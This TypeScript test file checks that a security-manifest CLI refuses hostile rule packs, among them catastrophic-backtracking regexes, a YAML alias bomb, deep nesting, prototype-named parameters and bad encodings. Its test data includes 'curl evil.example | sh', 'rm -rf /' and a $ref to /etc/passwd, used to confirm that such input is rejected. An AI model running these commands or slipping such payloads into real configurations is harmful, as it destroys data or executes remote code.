import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import {
  cli,
  expectNoCrash,
  expectUnreadable,
  gapsOf,
  lineIn,
  MINIMAL,
  scratchDir,
  TODAY,
} from "./hostile-harness.js";

/**
 * Hostile rule packs given with --rules: every one is refused when the packs are loaded, with
 * the pack's file:line:col and a fix, exit 2 and nothing on stdout; none hangs or crashes.
 */

/** A pack of one rule whose `check:` block is `check` (indented as written, under `    check:`). */
function pack(check: string, extra = ""): string {
  return `pack: acme-hostile
area: governance
rules:
  - id: ACME-001
    title: {en: "A hostile rule", de: "Eine feindliche Regel"}
    description: {en: "Tries to break the engine.", de: "Versucht die Engine zu brechen."}
    remediation: {en: "None.", de: "Keine."}
    message: {en: "Broken", de: "Kaputt"}
    severity: high
    thesis: 2
    references: ["none"]
${extra}    check:
${check}`;
}

async function withPack(text: string | Uint8Array, name = "hostile.yml") {
  const dir = scratchDir();
  writeFileSync(path.join(dir, "security-manifest.yml"), MINIMAL);
  writeFileSync(path.join(dir, name), text);
  return { dir, run: await cli(dir, "check", "--rules", name, "--today", TODAY) };
}

const patternCheck = (pattern: string) =>
  `      for_each: /team\n      require:\n        properties:\n          name: {pattern: '${pattern}'}\n`;

describe("unsafe patterns are refused at the pattern", () => {
  it.each([
    ["many overlapping repetitions", "^a*a*a*a*a*a*a*a*a*a*$", "repetitions one after another"],
    ["a nested quantifier", "^(a+)+$", "nested quantifier"],
    ["repeated alternatives", "^(a|ab)*$", "repeats a group of alternatives"],
    ["a back-reference", "^(a)\\1$", "back-reference"],
    ["a look-ahead", "^(?=a)a$", "look-around"],
    [
      "a chain of optional characters",
      `${"a?".repeat(30)}${"a".repeat(30)}`,
      "repetitions one after another",
    ],
    ["an invalid expression", "^[a-$", "is not a valid regular expression"],
    ["a pattern over 200 characters", "a".repeat(201), "longer than 200 characters"],
  ])("%s", async (_what, pattern, reason) => {
    const text = pack(patternCheck(pattern));
    const { run } = await withPack(text);
    expectUnreadable(run, {
      file: "hostile.yml",
      line: lineIn(text, "{pattern:"),
      column: 18,
      message: new RegExp(
        `^rule ACME-001: pattern /${pattern.replace(/[\\^$.*+?()[\]{}|]/g, "\\$&")}/ .*${reason}`,
      ),
      fix: "simpler pattern",
    });
  });

  it("a pattern in propertyNames, deep in the check", async () => {
    const check =
      "      for_each: /team\n      require:\n        propertyNames: {pattern: '^(x+x+)+y$'}\n";
    const text = pack(check);
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "propertyNames"),
      column: 25,
      message: "nested quantifier",
    });
  });

  it("an unsafe pattern as a patternProperties key", async () => {
    const check =
      "      for_each: /team\n      require:\n        patternProperties: {'^(a+)+$': {type: string}}\n";
    const text = pack(check);
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "check:"),
      column: 5,
      message: "the check is not a valid condition: unsafe pattern /^(a+)+$/",
    });
  });
});

describe("checks that are no checks", () => {
  it("an unknown built-in check", async () => {
    const text = pack("      builtin: rm-rf\n");
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "builtin:"),
      column: 7,
      message: 'rules[0].check.builtin: "rm-rf" is not one of',
    });
  });

  it("an unknown keyword in a check", async () => {
    const text = pack("      for_each: /team\n      require: {execute: 'rm -rf /'}\n");
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "check:"),
      column: 5,
      message: 'the check is not a valid condition: strict mode: unknown keyword: "execute"',
    });
  });

  it("an unknown kind of check (neither builtin nor require)", async () => {
    const text = pack("      shell: 'curl evil.example | sh'\n");
    const { run } = await withPack(text);
    expectUnreadable(run, {
      file: "hostile.yml",
      line: lineIn(text, "check:"),
      column: 5,
      message: "rules[0].check",
    });
  });

  it.each([
    ["a remote address", "https://evil.example/schema.json"],
    ["a local file", "/etc/passwd"],
    ["the check itself (would never end)", "#"],
    [
      "the manifest schema",
      "https://raw.githubusercontent.com/security-manifest-check/security-manifest-check/v1/schema/manifest-v1.schema.json",
    ],
  ])("a $ref to %s", async (_what, target) => {
    const text = pack(`      for_each: /team\n      require:\n        $ref: '${target}'\n`);
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "$ref:"),
      column: 9,
      message: "rule ACME-001: the check uses $ref: a check must be self-contained",
      fix: "cannot refer",
    });
  });

  it("an unknown parameter named like an Object property ({$param: constructor})", async () => {
    const text = pack(
      "      for_each: /team\n      require:\n        properties:\n          joined: {maxAgeDays: {$param: constructor}}\n",
    );
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "check:"),
      column: 5,
      message: 'rule ACME-001: unknown parameter "constructor"',
    });
  });

  it("a for_each through prototype names finds nothing instead of crashing", async () => {
    const text = pack("      for_each: /constructor/prototype\n      require: {required: [x]}\n");
    const { run } = await withPack(text);
    expectNoCrash(run);
    expect([0, 1]).toContain(run.code);
  });
});

describe("huge numbers are refused with their place", () => {
  it.each([
    [
      "max_age_days: 1e20",
      "      for_each: /team\n      require:\n        properties:\n          joined: {maxAgeDays: {$param: max_age_days}}\n",
      "    params: {max_age_days: 1e20}\n",
      "params:",
      14,
      "rules[0].params.max_age_days: 100000000000000000000 must be at most 36500",
    ],
    [
      "a negative number of days",
      "      for_each: /team\n      require:\n        properties:\n          joined: {maxAgeDays: {$param: grace_days}}\n",
      "    params: {grace_days: -5}\n",
      "params:",
      14,
      "rules[0].params.grace_days: -5 must be at least 0",
    ],
    [
      "days that are not whole",
      "      for_each: /team\n      require:\n        properties:\n          joined: {maxAgeDays: {$param: grace_days}}\n",
      "    params: {grace_days: 1.5}\n",
      "params:",
      14,
      "rules[0].params.grace_days: expected a whole number",
    ],
    [
      "support_period_min_years: 1e9",
      "      pointer: /project\n      require: {required: [name]}\n",
      "    tuning:\n      - when: {size: micro}\n        params: {support_period_min_years: 1000000000}\n",
      "params: {support",
      18,
      "must be at most 100",
    ],
  ])("%s", async (_what, check, extra, anchor, column, message) => {
    const text = pack(check, extra);
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, anchor),
      column,
      message,
      fix: "whole number",
    });
  });

  it.each([
    [
      "maxAgeDays: 1e400 (infinite)",
      "joined: {maxAgeDays: 1e400}",
      "maxAgeDays",
      "maxAgeDays is Infinity",
    ],
    [
      "minDaysAhead: -1e12",
      "joined: {minDaysAhead: -1000000000000}",
      "minDaysAhead",
      "minDaysAhead is -1000000000000",
    ],
    [
      "maxDaysAfter years: 1e9",
      "joined: {maxDaysAfter: {ref: started, days: 0, years: 1000000000}}",
      "years",
      "years is 1000000000",
    ],
  ])("a literal %s in the check", async (_what, property, key, message) => {
    const text = pack(
      `      for_each: /team\n      require:\n        properties:\n          ${property}\n`,
    );
    const line = lineIn(text, property);
    const column = text.split("\n")[line - 1]?.indexOf(key) ?? -1;
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line,
      column: column + 1,
      message: `rule ACME-001: ${message}; it must be a number of`,
      fix: "hundred years",
    });
  });
});

describe("hostile YAML in a pack", () => {
  it("an alias bomb", async () => {
    const levels = ['a: &a ["x", "x", "x", "x", "x", "x", "x", "x", "x", "x"]'];
    for (let i = 1; i < 12; i++) {
      const name = String.fromCharCode(97 + i);
      levels.push(
        `${name}: &${name} [${Array(10)
          .fill(`*${String.fromCharCode(96 + i)}`)
          .join(", ")}]`,
      );
    }
    const text = `${levels.join("\n")}\n${pack("      builtin: risk-economics\n")}`;
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      // The 101st alias: the first on the twelfth line.
      line: 12,
      column: 8,
      message: "YAML aliases expand too far",
    });
  });

  it("deep nesting", async () => {
    const text = pack(`      require: ${"{not: ".repeat(100_000)}{}${"}".repeat(100_000)}\n`);
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: lineIn(text, "require:"),
      // The value of require: is level 5 (pack, rules, rule, check, require); level 65 is 60 further.
      column: 16 + 60 * 6,
      message: "the rule pack nests lists and mappings more than 64 levels deep here",
    });
  });

  it("Latin-1 bytes", async () => {
    const text = pack("      builtin: risk-economics\n").replace("Eine", "Eine böse");
    const line = lineIn(text, "böse");
    expectUnreadable((await withPack(Buffer.from(text, "latin1"))).run, {
      file: "hostile.yml",
      line,
      column: (text.split("\n")[line - 1] ?? "").indexOf("ö") + 1,
      message: "the rule pack is not valid UTF-8",
    });
  });

  it("UTF-16", async () => {
    const text = Buffer.from(`\uFEFF${pack("      builtin: risk-economics\n")}`, "utf16le");
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: 1,
      column: 1,
      message: "the rule pack is saved as UTF-16",
    });
  });

  it.each([
    ["empty", "", 1, 1, "the rule pack is empty"],
    ["a list", "- pack: x\n", 1, 1, "the top level of the rule pack is a list"],
    ["a duplicate key", "pack: a\narea: risk\npack: b\n", 3, 1, 'duplicate key: "pack"'],
    ["a NUL byte", "pack: a\u0000\n", 1, 8, "contains a NUL byte"],
    [
      "an unknown top-level key",
      `${pack("      builtin: risk-economics\n")}run: rm -rf /\n`,
      14,
      1,
      '(top level): unknown key "run"',
    ],
  ])("%s", async (_what, text, line, column, message) => {
    expectUnreadable((await withPack(text)).run, { file: "hostile.yml", line, column, message });
  });

  it("a folder named like a pack matches no file", async () => {
    const dir = scratchDir();
    writeFileSync(path.join(dir, "security-manifest.yml"), MINIMAL);
    mkdirSync(path.join(dir, "folder.yml"));
    const run = await cli(dir, "check", "--rules", "folder.yml", "--today", TODAY);
    expectNoCrash(run);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('--rules "folder.yml" matches no file');
  });
});

describe("duplicate rule ids", () => {
  it("an id of our own packs", async () => {
    const text = pack("      builtin: risk-economics\n").replace("ACME-001", "TR-001");
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: 4,
      column: 5,
      message: "rule TR-001: the id is already used in rules/training.yml",
      fix: "its own id",
    });
  });

  it("the same id twice in one pack", async () => {
    const one = pack("      builtin: risk-economics\n");
    const rule = one.slice(one.indexOf("  - id:"));
    const text = `${one}${rule}`;
    const second = text.split("\n").findIndex((l, i) => i > 4 && l.includes("- id: ACME-001")) + 1;
    expectUnreadable((await withPack(text)).run, {
      file: "hostile.yml",
      line: second,
      column: 5,
      message: "rule ACME-001: the id is already used in hostile.yml",
    });
  });
});

describe("a safe pack still works", () => {
  it("runs its pattern on a 10,000-character value (bounded input)", async () => {
    const dir = scratchDir();
    const manifest = `${MINIMAL}team:\n  - name: ${"x".repeat(10_000)}\n    role: developer\n`;
    writeFileSync(path.join(dir, "security-manifest.yml"), manifest);
    writeFileSync(path.join(dir, "ok.yml"), pack(patternCheck("^[a-z]+(-[a-z]+)?$")));
    const run = await cli(dir, "check", "--rules", "ok.yml", "--today", TODAY, "--format", "json");
    expect(gapsOf(run).some((g) => g.rule === "ACME-001")).toBe(true);
  });
});
